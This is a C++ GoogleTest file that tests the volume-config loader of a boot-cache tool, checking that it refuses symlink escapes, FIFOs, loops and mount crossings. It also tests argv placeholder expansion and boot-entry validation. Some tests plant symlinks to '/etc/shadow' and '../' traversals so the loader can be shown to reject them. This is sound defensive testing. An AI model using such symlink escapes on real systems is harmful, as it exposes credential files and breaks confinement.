TEST_F(ConfigTest, LoadVolumeBinaryGarbage) {
    std::string garbage;
    for (int i = 0; i < 65536; ++i) garbage += static_cast<char>((i * 2654435761u) >> 24);
    fs::path root = make_volume(garbage);
    UniqueFd fd = open_root(root);
    EXPECT_TRUE(fails_containing(load_volume_config(fd.get(), "/v", trusted_host()), ExitCode::bad_volume_config,
                                 {"/v/etc/volwatch/bootcaches.toml:", "invalid TOML"}));
}

TEST_F(ConfigTest, LoadVolumeConfigThatIsNotARegularFile) {
    fs::path root = make_volume("");
    fs::create_directories(root / volume_config_relpath);
    UniqueFd fd = open_root(root);
    EXPECT_TRUE(fails_with(load_volume_config(fd.get(), "/v", trusted_host()), ExitCode::bad_volume_config,
                           "/v/etc/volwatch/bootcaches.toml: not a regular file"));

    fs::remove(root / volume_config_relpath);
    ASSERT_EQ(::mkfifo((root / volume_config_relpath).c_str(), 0600), 0);
    // A FIFO must neither hang the loader nor be read.
    EXPECT_TRUE(fails_with(load_volume_config(fd.get(), "/v", trusted_host()), ExitCode::bad_volume_config,
                           "/v/etc/volwatch/bootcaches.toml: not a regular file"));
}

TEST_F(ConfigTest, LoadVolumeSymlinkedConfigPointingOutside) {
    for (Resolver resolver : {Resolver::automatic, Resolver::openat2, Resolver::fallback}) {
        set_resolver_for_testing(resolver);
        fs::path root = make_volume("");
        write_file(dir() / "outside.toml", valid_volume_config);
        fs::create_directories(root / "etc/volwatch");
        UniqueFd fd = open_root(root);

        fs::create_symlink(dir() / "outside.toml", root / volume_config_relpath);
        EXPECT_TRUE(fails_containing(load_volume_config(fd.get(), "/v", trusted_host()), ExitCode::bad_volume_config,
                                     {"/v/etc/volwatch/bootcaches.toml: ", "resolves outside the volume"}))
            << "absolute symlink, resolver " << static_cast<int>(resolver);
        fs::remove(root / volume_config_relpath);

        fs::create_symlink("../../../outside.toml", root / volume_config_relpath);
        EXPECT_TRUE(fails_containing(load_volume_config(fd.get(), "/v", trusted_host()), ExitCode::bad_volume_config,
                                     {"/v/etc/volwatch/bootcaches.toml: ", "resolves outside the volume"}))
            << "relative symlink, resolver " << static_cast<int>(resolver);
        fs::remove(root / volume_config_relpath);

        // A symlinked directory on the way out is refused too.
        fs::remove(root / "etc/volwatch");
        fs::create_directories(dir() / "outside-etc");
        write_file(dir() / "outside-etc/bootcaches.toml", valid_volume_config);
        fs::create_directory_symlink(dir() / "outside-etc", root / "etc/volwatch");
        EXPECT_TRUE(fails_containing(load_volume_config(fd.get(), "/v", trusted_host()), ExitCode::bad_volume_config,
                                     {"resolves outside the volume"}))
            << "symlinked directory, resolver " << static_cast<int>(resolver);

        fs::remove_all(root);
        fs::remove_all(dir() / "outside-etc");
    }
}

TEST_F(ConfigTest, LoadVolumeSymlinkedConfigInsideIsFine) {
    for (Resolver resolver : {Resolver::openat2, Resolver::fallback}) {
        set_resolver_for_testing(resolver);
        fs::path root = make_volume("");
        write_file(root / "srv/real.toml", valid_volume_config);
        fs::create_directories(root / "etc/volwatch");
        fs::create_symlink("../../srv/real.toml", root / volume_config_relpath);
        UniqueFd fd = open_root(root);
        auto config = load_volume_config(fd.get(), "/v", trusted_host());
        EXPECT_TRUE(config.ok()) << config.problem().message;
        fs::remove_all(root);
    }
}

TEST_F(ConfigTest, LoadVolumeSymlinkEscapesInPaths) {
    for (Resolver resolver : {Resolver::openat2, Resolver::fallback}) {
        set_resolver_for_testing(resolver);
        fs::path root = make_volume(R"(version = 1
[[cache]]
name    = "initramfs"
sources = ["usr/lib/modules", "etc/initramfs-tools"]
product = "boot/initrd.img"
rebuild = "initramfs"
)");
        fs::create_directories(dir() / "outside/modules");
        fs::create_directories(root / "usr/lib");
        fs::create_directories(root / "boot");
        UniqueFd fd = open_root(root);
        auto load = [&] { return load_volume_config(fd.get(), "/v", trusted_host()); };
        ASSERT_TRUE(load().ok()) << "missing sources and product are fine: " << load().problem().message;

        fs::create_directory_symlink(dir() / "outside/modules", root / "usr/lib/modules");
        EXPECT_TRUE(fails_with(load(), ExitCode::bad_volume_config,
                               "/v/etc/volwatch/bootcaches.toml:4: cache[0].sources[0]: \"usr/lib/modules\": "
                               "usr/lib/modules: resolves outside the volume or onto another mount"));
        fs::remove(root / "usr/lib/modules");

        fs::create_directory_symlink("../../../outside/modules", root / "usr/lib/modules");
        EXPECT_TRUE(fails_containing(load(), ExitCode::bad_volume_config,
                                     {":4: cache[0].sources[0]: \"usr/lib/modules\"", "resolves outside the volume"}));
        fs::remove(root / "usr/lib/modules");

        // A symlink to "/" alone, and one climbing by a detour inside.
        fs::create_directory_symlink("/", root / "usr/lib/modules");
        EXPECT_TRUE(fails_containing(load(), ExitCode::bad_volume_config, {"cache[0].sources[0]"}));
        fs::remove(root / "usr/lib/modules");
        fs::create_directory_symlink("../../boot/../..", root / "usr/lib/modules");
        EXPECT_TRUE(fails_containing(load(), ExitCode::bad_volume_config, {"cache[0].sources[0]"}));
        fs::remove(root / "usr/lib/modules");

        fs::create_symlink("/etc/shadow", root / "boot/initrd.img");
        EXPECT_TRUE(fails_with(load(), ExitCode::bad_volume_config,
                               "/v/etc/volwatch/bootcaches.toml:5: cache[0].product: \"boot/initrd.img\": "
                               "boot/initrd.img: resolves outside the volume or onto another mount"));
        fs::remove(root / "boot/initrd.img");

        // A symlinked parent directory of a path.
        fs::create_directories(root / "etc");
        fs::create_directory_symlink(dir() / "outside", root / "etc/initramfs-tools");
        EXPECT_TRUE(fails_containing(load(), ExitCode::bad_volume_config, {":4: cache[0].sources[1]"}));
        fs::remove(root / "etc/initramfs-tools");

        // A symlink loop is refused, not followed forever.
        fs::create_symlink("loop", root / "boot/initrd.img");
        fs::create_symlink("initrd.img", root / "boot/loop");
        EXPECT_TRUE(fails_containing(load(), ExitCode::bad_volume_config, {":5: cache[0].product", "too many symbolic links"}));
        fs::remove(root / "boot/initrd.img");
        fs::remove(root / "boot/loop");

        ASSERT_TRUE(load().ok()) << load().problem().message;
        fs::remove_all(root);
        fs::remove_all(dir() / "outside");
    }
}

TEST_F(ConfigTest, LoadVolumeSymlinkEscapeInHelperFiles) {
    fs::path root = make_volume("version = 1\n[helpers]\nfiles = [\"boot/vmlinuz\", \"boot/grub/grub.cfg\"]");
    write_file(dir() / "secret", "x");
    fs::create_directories(root / "boot");
    fs::create_symlink(dir() / "secret", root / "boot/grub");
    UniqueFd fd = open_root(root);
    EXPECT_TRUE(fails_containing(load_volume_config(fd.get(), "/v", trusted_host()), ExitCode::bad_volume_config,
                                 {"/v/etc/volwatch/bootcaches.toml:3: helpers.files[1]: \"boot/grub/grub.cfg\"",
                                  "resolves outside the volume"}));
    fs::remove(root / "boot/grub");
    fs::create_symlink("../../secret", root / "boot/vmlinuz");
    EXPECT_TRUE(fails_containing(load_volume_config(fd.get(), "/v", trusted_host()), ExitCode::bad_volume_config,
                                 {":3: helpers.files[0]: \"boot/vmlinuz\"", "resolves outside the volume"}));
}

TEST_F(ConfigTest, LoadVolumeSymlinksInsideAreFine) {
    fs::path root = make_volume(R"(version = 1
[[cache]]
name    = "initramfs"
sources = ["usr/lib/modules", "lib/modules"]
product = "boot/initrd.img"
rebuild = "initramfs"
[helpers]
files = ["vmlinuz", "boot/vmlinuz-6.1"]
)");
    fs::create_directories(root / "usr/lib/modules");
    fs::create_directory_symlink("usr/lib", root / "lib");
    write_file(root / "boot/vmlinuz-6.1", "kernel");
    write_file(root / "boot/initrd.img-6.1", "initrd");
    fs::create_symlink("initrd.img-6.1", root / "boot/initrd.img");
    fs::create_symlink("boot/vmlinuz-6.1", root / "vmlinuz");
    UniqueFd fd = open_root(root);
    for (Resolver resolver : {Resolver::openat2, Resolver::fallback}) {
        set_resolver_for_testing(resolver);
        auto config = load_volume_config(fd.get(), "/v", trusted_host());
        EXPECT_TRUE(config.ok()) << config.problem().message;
    }
}

TEST_F(ConfigTest, LoadVolumeMountCrossingIsRefused) {
    if (::geteuid() != 0) GTEST_SKIP() << "needs root to mount a tmpfs in a private mount namespace";
    fs::path root = make_volume(R"(version = 1
[[cache]]
name    = "x"
sources = ["mnt/src"]
product = "p"
rebuild = "ldconfig"
)");
    fs::create_directories(root / "mnt");
    int status = run_in_private_mount_namespace([&]() -> int {
        if (::mount("tmpfs", (root / "mnt").c_str(), "tmpfs", 0, "size=1m") != 0) return 102;
        if (!std::ofstream(root / "mnt/src").good()) return 103;
        UniqueFd fd(::open(root.c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC));
        for (Resolver resolver : {Resolver::openat2, Resolver::fallback}) {
            set_resolver_for_testing(resolver);
            auto config = load_volume_config(fd.get(), "/v", trusted_host());
            if (config.ok() || config.problem().code != ExitCode::bad_volume_config) return 10;
            if (config.problem().message.find(":4: cache[0].sources[0]: \"mnt/src\"") == std::string::npos) return 11;
        }
        return 0;
    });
    EXPECT_EQ(status, 0);
}

// -------------------------------------------------------- digest and expansion

TEST_F(ConfigTest, ConfigDigestTracksEveryCacheFieldAndTheArgv) {
    HostConfig host = trusted_host();
    host.rebuilders.emplace("other", Rebuilder{"other", {"update-initramfs", "-u", "-b", "{root}/boot"}, 10min});
    CacheSpec base;
    base.name = "initramfs";
    base.sources = {"usr/lib/modules", "etc/initramfs-tools"};
    base.product = "boot/initrd.img";
    base.depth = Depth::shallow;
    base.rebuild = "initramfs";
    base.line = 3;
    const std::string digest = config_digest(base, host);
    EXPECT_EQ(digest.size(), 32u);
    EXPECT_EQ(config_digest(base, host), digest) << "stable";

    auto changed = [&](auto mutate) {
        CacheSpec copy = base;
        mutate(copy);
        return config_digest(copy, host);
    };
    EXPECT_NE(changed([](CacheSpec& c) { c.name = "initramfs2"; }), digest);
    EXPECT_NE(changed([](CacheSpec& c) { c.sources.push_back("etc/modules"); }), digest);
    EXPECT_NE(changed([](CacheSpec& c) { c.sources.pop_back(); }), digest);
    EXPECT_NE(changed([](CacheSpec& c) { c.sources[0] = "usr/lib/modules2"; }), digest);
    EXPECT_NE(changed([](CacheSpec& c) { std::swap(c.sources[0], c.sources[1]); }), digest);
    EXPECT_NE(changed([](CacheSpec& c) { c.sources = {"usr/lib/modulesetc/initramfs-tools"}; }), digest);
    EXPECT_NE(changed([](CacheSpec& c) { c.product = "boot/initrd.img.new"; }), digest);
    EXPECT_NE(changed([](CacheSpec& c) { c.depth = Depth::deep; }), digest);
    EXPECT_NE(changed([](CacheSpec& c) { c.rebuild = "other"; }), digest)
        << "same argv, different rebuilder name";
    EXPECT_EQ(changed([](CacheSpec& c) { c.line = 40; }), digest) << "moving the entry in the file is no change";
    EXPECT_NE(changed([](CacheSpec& c) { c.outputs = {"usr/lib/modules/*/modules.dep"}; }), digest);

    HostConfig argv_changed = host;
    argv_changed.rebuilders.at("initramfs").argv.push_back("-v");
    EXPECT_NE(config_digest(base, argv_changed), digest);
    HostConfig argv_split = host;
    argv_split.rebuilders.at("initramfs").argv = {"update-initramfs", "-u -b", "{root}/boot"};
    EXPECT_NE(config_digest(base, argv_split), digest);

    HostConfig timeout_changed = host;
    timeout_changed.rebuilders.at("initramfs").timeout = 1h;
    EXPECT_EQ(config_digest(base, timeout_changed), digest);
    HostConfig other_rebuilder_changed = host;
    other_rebuilder_changed.rebuilders.at("ldconfig").argv = {"ldconfig"};
    EXPECT_EQ(config_digest(base, other_rebuilder_changed), digest);
    HostConfig moved = host;
    moved.source = "/elsewhere.toml";
    moved.lock_dir = "/tmp/locks";
    EXPECT_EQ(config_digest(base, moved), digest);
}

TEST_F(ConfigTest, ExpandArgvOneArgumentPerPlaceholder) {
    std::map<std::string, std::string> values = {{"root", "/mnt/my volume"},
                                                 {"volume", "uuid-1234"},
                                                 {"cache", "init ramfs"},
                                                 {"product", "boot/initrd img"}};
    auto argv = expand_argv({"update-initramfs", "-u", "-b", "{root}/boot", "{cache}", "--out={product}", "{volume}"},
                            values);
    EXPECT_EQ(argv, (std::vector<std::string>{"update-initramfs", "-u", "-b", "/mnt/my volume/boot", "init ramfs",
                                              "--out=boot/initrd img", "uuid-1234"}));
}

TEST_F(ConfigTest, ExpandArgvLeavesOthersAlone) {
    std::map<std::string, std::string> values = {{"root", "/r"}, {"cache", "c"}};
    EXPECT_EQ(expand_argv({"{x}", "{}", "{root", "root}", "{{root}}", "a{root}b{cache}c{root}", "{ROOT}", ""}, values),
              (std::vector<std::string>{"{x}", "{}", "{root", "root}", "{/r}", "a/rbcc/r", "{ROOT}", ""}));
    // A value is inserted as written, never expanded again.
    std::map<std::string, std::string> tricky = {{"root", "/mnt/{cache}"}, {"cache", "x"}};
    EXPECT_EQ(expand_argv({"{root}"}, tricky), (std::vector<std::string>{"/mnt/{cache}"}));
    EXPECT_TRUE(expand_argv({}, values).empty());
}

namespace {

std::string with_entry(const std::string& entry) {
    return "[[helpers]]\nvolume = \"/\"\ntargets = [\"/boot/efi\"]\n[helpers.entry]\n" + entry;
}

TEST(ConfigBootEntry, EveryKeyAndTheDefaults) {
    auto host = parse_host_config(with_entry("id = \"debian\"\ntitle = \"Debian {slot}\"\nlinux = \"./boot//vmlinuz\"\n"
                                             "initrd = [\"boot/initrd.img\", \"boot/ucode.img\"]\n"
                                             "options = \"root=UUID=1 volwatch.generation={generation}\"\ntries = 3\n"),
                                  "host.toml");
    ASSERT_TRUE(host.ok()) << host.problem().message;
    ASSERT_TRUE(host->helpers[0].entry.has_value());
    const BootEntryConfig& entry = *host->helpers[0].entry;
    EXPECT_EQ(entry.id, "debian");
    EXPECT_EQ(entry.title, "Debian {slot}");
    EXPECT_EQ(entry.linux_file, "boot/vmlinuz");
    EXPECT_EQ(entry.initrd, (std::vector<std::string>{"boot/initrd.img", "boot/ucode.img"}));
    EXPECT_EQ(entry.options, "root=UUID=1 volwatch.generation={generation}");
    EXPECT_EQ(entry.tries, 3);
    EXPECT_EQ(entry.line, 4);
    auto defaults = parse_host_config(with_entry("linux = \"vmlinuz\"\n"), "host.toml");
    ASSERT_TRUE(defaults.ok());
    EXPECT_EQ(defaults->helpers[0].entry->id, "volwatch");
    EXPECT_EQ(defaults->helpers[0].entry->title, "volwatch");
    EXPECT_EQ(defaults->helpers[0].entry->tries, 0);
    EXPECT_TRUE(defaults->helpers[0].entry->initrd.empty());
    auto none = parse_host_config("[[helpers]]\nvolume = \"/\"\ntargets = [\"/boot/efi\"]\n", "host.toml");
    ASSERT_TRUE(none.ok());
    EXPECT_FALSE(none->helpers[0].entry.has_value());
}

TEST(ConfigBootEntry, BadKeysNameFileLineAndKey) {
    struct Case {
        std::string entry;
        std::string message;
    };
    const Case cases[] = {
        {"linux = \"v\"\nkernel = \"v\"\n", "host.toml:6: helpers[0].entry.kernel: unknown key"},
        {"id = \"debian\"\n", "host.toml:4: helpers[0].entry.linux: missing required key"},
        {"linux = \"\"\n", "host.toml:5: helpers[0].entry.linux: must not be empty"},
        {"linux = 5\n", "host.toml:5: helpers[0].entry.linux: expected a string, found an integer"},
        {"linux = \"v\"\nid = \"deb+ian\"\n",
         "host.toml:6: helpers[0].entry.id: \"deb+ian\": an entry id uses only letters, digits, '.', '_' and '-' (1 to 64, no '+'), and "
         "does not start with '.' or \"auto-\" (systemd-boot skips those)"},
        {"linux = \"v\"\nid = \".hidden\"\n",
         "host.toml:6: helpers[0].entry.id: \".hidden\": an entry id uses only letters, digits, '.', '_' and '-' (1 to 64, no '+'), and "
         "does not start with '.' or \"auto-\" (systemd-boot skips those)"},
        {"linux = \"v\"\ntries = 10\n", "host.toml:6: helpers[0].entry.tries: must be between 0 (no boot counting) and 9"},
        {"linux = \"v\"\ntries = -1\n", "host.toml:6: helpers[0].entry.tries: must be between 0 (no boot counting) and 9"},
        {"linux = \"v\"\ntries = \"3\"\n", "host.toml:6: helpers[0].entry.tries: expected an integer, found a string"},
        {"linux = \"v\"\noptions = \"root={root}\"\n",
         "host.toml:6: helpers[0].entry.options: unknown placeholder {root} in \"root={root}\"; the placeholders are {generation} and {slot}"},
        {"linux = \"v\"\ntitle = \"OS {gen}\"\n",
         "host.toml:6: helpers[0].entry.title: unknown placeholder {gen} in \"OS {gen}\"; the placeholders are {generation} and {slot}"},
        {"linux = \"v\"\noptions = \"a\\nb\"\n", "host.toml:6: helpers[0].entry.options: must not contain a line break"},
        {"linux = \"v\"\ntitle = \"a\\rb\"\n", "host.toml:6: helpers[0].entry.title: must not contain a line break"},
        {"linux = \"../v\"\n", "host.toml:5: helpers[0].entry.linux: \"../v\": \"..\" would leave the volume"},
        {"linux = \"boot/my kernel\"\n",
         "host.toml:5: helpers[0].entry.linux: \"boot/my kernel\": a boot loader entry path may not contain spaces or control characters"},
        {"linux = \"v\"\ninitrd = \"i\"\n", "host.toml:6: helpers[0].entry.initrd: expected an array of strings, found a string"},
        {"linux = \"v\"\ninitrd = [\"\"]\n", "host.toml:6: helpers[0].entry.initrd[0]: must not be empty"},
    };
    for (const auto& c : cases) {
        auto host = parse_host_config(with_entry(c.entry), "host.toml");
        ASSERT_FALSE(host.ok()) << c.entry;
        EXPECT_EQ(host.problem().code, ExitCode::bad_host_config);
        EXPECT_EQ(host.problem().message, c.message);
    }
}

}  // namespace
